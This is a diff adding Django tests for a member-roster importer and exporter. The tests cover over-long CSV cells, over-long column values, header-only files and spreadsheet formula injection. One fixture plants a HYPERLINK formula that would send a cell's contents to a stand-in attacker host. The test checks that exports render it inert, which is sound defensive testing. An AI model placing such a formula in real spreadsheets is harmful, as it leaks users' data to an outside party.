@@ -230,3 +230,75 @@ def test_an_exported_xlsx_reads_back_through_the_importer(client, tree, people):
     upload_file = SimpleUploadedFile("back.xlsx", b"".join(response.streaming_content))
     rows = read_roster(upload_file)
     assert {r.values["phone"] for r in rows} == {"13811112222", "13855556666"}
+
+
+def test_a_csv_cell_past_the_csv_field_limit_is_a_form_error(client, tree, people):
+    # given a CSV whose note cell is longer than Python's csv module accepts
+    body = "name,phone,home_organisation_code,note\nx,13912340002,JN0101," + "A" * (
+        200_000
+    )
+    file = SimpleUploadedFile("a.csv", body.encode())
+    # when it is checked
+    response = upload(client, people.county, file)
+    # then the page says which line is too long; nothing is stored
+    assert response.status_code == 400
+    assert "Line 2 of the CSV file has a cell longer than 131072 characters" in (
+        response.content.decode()
+    )
+    assert not Member.objects.filter(phone="13912340002").exists()
+
+
+def test_a_value_longer_than_its_column_is_a_row_problem_and_nothing_is_stored(
+    client, tree, people
+):
+    # given a name of 300 characters (members keep at most 100) and a code of 40
+    rows = [
+        HEADER,
+        ["名" * 300, "13912340003", "A1A", "", "", ""],
+        ["好人", "13912340004", "A" * 40, "", "", ""],
+    ]
+    # when the file is checked, then both rows are reported with their column
+    checked = upload(client, people.county, csv_file(rows))
+    assert checked.status_code == 400
+    assert problems(checked) == [(2, "name"), (3, "home_organisation_code")]
+    text = checked.content.decode()
+    assert "Longer than 100 characters (300)." in text
+    assert "Longer than 32 characters (40)." in text
+    # and a commit stores nothing (PostgreSQL would refuse the name: DataError)
+    committed = upload(client, people.county, csv_file(rows), commit=True)
+    assert committed.status_code == 400
+    assert problems(committed) == [(2, "name"), (3, "home_organisation_code")]
+    assert not Member.objects.filter(phone__in=["13912340003", "13912340004"]).exists()
+
+
+def test_a_file_with_only_the_header_row_is_a_form_error(client, people):
+    for file in (csv_file([HEADER]), xlsx([HEADER]), csv_file([HEADER, [], []])):
+        response = upload(client, people.county, file)
+        assert response.status_code == 400
+        text = response.content.decode()
+        assert "The file has no member rows." in text
+        assert "rows are valid" not in text
+
+
+def test_a_note_that_looks_like_a_formula_is_exported_inert_and_reads_back(
+    client, tree, people
+):
+    # given a note planted by a branch organiser, which a spreadsheet would run
+    planted = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
+    Member.objects.filter(name="张三").update(note=planted)
+    client.force_login(people.county)
+
+    csv_rows = read_csv(client.get(reverse("members_member:export")))
+    workbook = client.get(reverse("members_member:export") + "?format=xlsx")
+
+    # then the CSV quotes it and the workbook holds it as text, not a formula
+    note = HEADER.index("note")
+    assert {r[0]: r[note] for r in csv_rows[1:]}["张三"] == "'" + planted
+    sheet = load_workbook(io.BytesIO(b"".join(workbook.streaming_content))).active
+    cells = {row[0].value: row[note] for row in sheet.iter_rows(min_row=2)}
+    assert cells["张三"].value == planted and cells["张三"].data_type == "s"
+    # and the importer reads the CSV back as it was stored
+    from members.roster import read_roster
+
+    rows = read_roster(csv_file(csv_rows))
+    assert {r.values["name"]: r.values["note"] for r in rows}["张三"] == planted
